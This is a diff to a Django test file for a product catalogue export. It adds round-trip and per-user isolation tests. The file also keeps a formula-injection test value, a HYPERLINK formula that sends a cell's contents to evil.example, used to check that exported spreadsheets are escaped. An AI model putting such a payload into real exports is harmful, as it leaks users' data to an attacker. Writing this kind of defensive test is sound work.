@@ -1,5 +1,6 @@
-"""Catalogue exports are safe to open in a spreadsheet (issue 13): formulae escaped, control
-characters dropped, in CSV and XLSX alike, and the export still imports back unchanged."""
+"""The catalogue export: the import's own format (export -> import changes nothing), the
+user's own catalogue only, and safe to open in a spreadsheet: formulae escaped, control
+characters dropped, in CSV and XLSX alike, and it still imports back unchanged."""
 
 import csv
 import io
@@ -8,11 +9,33 @@ import openpyxl
 import pytest
 from django.urls import reverse
 
-from catalog.models import ImportMode, ImportStatus, Product, Variation
-from catalog.services.imports import catalogue_export, import_confirm, import_start
-from catalog.tests.test_import import upload
+from catalog.importing import catalogue_export, import_confirm, import_start
+from catalog.models import ImportMode, ImportStatus, Product, StockMovement, Variation
+from catalog.tests.importing.uploads import HEADER, TWO_PRODUCTS, run_import, upload
 
 pytestmark = pytest.mark.django_db
+
+
+def test_export_then_import_round_trips_without_duplicates(manufacturer_a):
+    run_import(manufacturer_a, TWO_PRODUCTS)
+    exported = catalogue_export(user=manufacturer_a)
+
+    assert exported.splitlines()[0] == HEADER.strip()
+    result = run_import(manufacturer_a, exported, name="export.csv")
+
+    assert (result.created_count, result.updated_count, result.unchanged_count) == (0, 0, 3)
+    assert (Product.objects.count(), Variation.objects.count()) == (2, 3)
+    assert StockMovement.objects.count() == 3
+
+
+def test_export_contains_only_the_users_own_catalogue(manufacturer_a, manufacturer_b):
+    run_import(manufacturer_a, TWO_PRODUCTS)
+    run_import(manufacturer_b, HEADER + "other,Other,,5,,A > B,true,,,,1,,\n")
+
+    exported = catalogue_export(user=manufacturer_a)
+
+    assert "other" not in exported and exported.count("\n") == 4
+
 
 NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
 
